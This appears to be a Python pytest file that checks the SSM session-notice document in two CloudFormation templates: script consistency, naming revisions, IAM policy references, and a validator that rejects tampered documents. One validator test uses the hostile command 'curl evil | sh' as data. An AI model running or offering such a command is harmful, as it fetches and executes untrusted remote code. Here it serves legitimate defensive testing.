"""The warning document has one source, functions/sweeper/session_notice.sh: both templates carry it unchanged, and the
member stack's document is named so that the central sweeper knows it and CloudFormation can replace it."""

from __future__ import annotations

import hashlib
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.notice_script import COMMAND, SCRIPT, TEMPLATES, with_script
from warden.adapters.notices import MEMBER_DOCUMENT_REVISION, NOTICE_SCRIPT_SHA256, document_problem, member_document
from warden_local.stack import load_template

ROOT = Path(__file__).resolve().parents[2]
CENTRAL = load_template(ROOT / "template.yaml")
MEMBER = load_template(ROOT / "org" / "member.yaml")


def _document(template: dict[str, Any]) -> dict[str, Any]:
    properties: dict[str, Any] = template["Resources"]["WarningDocument"]["Properties"]
    return properties


@pytest.mark.parametrize("template", [CENTRAL, MEMBER], ids=["template.yaml", "org/member.yaml"])
def test_each_templates_warning_document_runs_the_script_in_the_repository_unchanged(template: dict[str, Any]) -> None:
    (step,) = _document(template)["Content"]["mainSteps"]
    assert step["inputs"]["runCommand"] == [SCRIPT.read_text()], f"copy the script into the template: {COMMAND}"


def test_the_member_stacks_document_is_the_central_stacks_document() -> None:
    central, member = _document(CENTRAL), _document(MEMBER)
    assert member["Content"] == central["Content"]
    assert (member["DocumentType"], member["DocumentFormat"]) == (central["DocumentType"], central["DocumentFormat"])


def test_the_copy_command_leaves_the_committed_templates_as_they_are() -> None:
    script = SCRIPT.read_text()
    for template in TEMPLATES:
        text = template.read_text()
        assert with_script(text, script) == text, f"{template.name} differs from the script: {COMMAND}"


def test_the_copy_command_puts_a_changed_script_into_the_document_and_nothing_else() -> None:
    # GIVEN a changed script WHEN it is copied into the member template
    text = (ROOT / "org" / "member.yaml").read_text()
    changed = SCRIPT.read_text().replace("exit 0\n", "echo done\n\n  indented\nexit 0\n")
    updated = yaml.load(with_script(text, changed), Loader=_IgnoringTags)
    before = yaml.load(text, Loader=_IgnoringTags)
    # THEN the document runs the new script, and every other part of the template is as it was
    (step,) = updated["Resources"]["WarningDocument"]["Properties"]["Content"]["mainSteps"]
    assert step["inputs"]["runCommand"] == [changed]
    step["inputs"]["runCommand"] = [SCRIPT.read_text()]
    assert updated == before


def test_a_changed_script_needs_the_next_revision_of_the_member_documents_name() -> None:
    digest = hashlib.sha256(SCRIPT.read_bytes()).hexdigest()
    assert digest == NOTICE_SCRIPT_SHA256, (
        "functions/sweeper/session_notice.sh changed: CloudFormation cannot replace the member stack's document under "
        "the same name. In layers/warden/warden/adapters/notices.py set NOTICE_SCRIPT_SHA256 to "
        f"'{digest}' and raise MEMBER_DOCUMENT_REVISION; raise the -session-notice-N suffix in org/member.yaml "
        f"(WarningDocument, MemberRole) and template.yaml (tamper pattern, OrgCentralRegionsWarningsPolicy); run {COMMAND}"
    )


def test_the_sweeper_trusts_the_templates_document_and_nothing_that_runs_more_or_takes_other_parameters() -> None:
    content = _document(MEMBER)["Content"]
    assert document_problem(content) is None
    assert document_problem(_document(CENTRAL)["Content"]) is None
    (step,) = content["mainSteps"]
    replaced = {
        "another script": {**content, "mainSteps": [{**step, "inputs": {"runCommand": ["curl evil | sh"]}}]},
        "two steps": {**content, "mainSteps": [step, step]},
        "a step that is not a shell script": {**content, "mainSteps": [{**step, "action": "aws:runPowerShellScript"}]},
        "text parameters": {
            **content,
            "parameters": {name: {**p, "interpolationType": ""} for name, p in content["parameters"].items()},
        },
        "a wider pattern": {
            **content,
            "parameters": {
                **content["parameters"],
                "Message": {**content["parameters"]["Message"], "allowedPattern": ".*"},
            },
        },
        "another parameter": {**content, "parameters": {**content["parameters"], "Extra": {"type": "String"}}},
    }
    for what, document in replaced.items():
        assert document_problem(document) is not None, what
    assert document_problem("schemaVersion: 2.2") == "its content is not a document"


def test_the_member_document_is_named_as_the_sweeper_and_both_roles_name_it() -> None:
    name = f"${{WardenStackName}}-session-notice-{MEMBER_DOCUMENT_REVISION}"
    assert _document(MEMBER)["Name"] == {"Fn::Sub": name}
    assert member_document("session-warden") == f"session-warden-session-notice-{MEMBER_DOCUMENT_REVISION}"
    statements = MEMBER["Resources"]["MemberRole"]["Properties"]["Policies"][0]["PolicyDocument"]["Statement"]
    [send] = [statement for statement in statements if "ssm:SendCommand" in statement["Action"]]
    assert send["Resource"][0] == {"Fn::Sub": f"arn:${{AWS::Partition}}:ssm:*:${{AWS::AccountId}}:document/{name}"}
    relay = CENTRAL["Resources"]["OrgCentralRegionsWarningsPolicy"]["Properties"]["PolicyDocument"]["Statement"]
    central_name = name.replace("WardenStackName", "AWS::StackName")
    assert relay[0]["Resource"][0] == {
        "Fn::Sub": f"arn:${{AWS::Partition}}:ssm:*:${{AWS::AccountId}}:document/{central_name}"
    }


class _IgnoringTags(yaml.SafeLoader):
    """YAML with CloudFormation's short tags read as plain values (only the structure is compared)."""


_IgnoringTags.add_multi_constructor("!", lambda loader, suffix, node: repr(node.value))
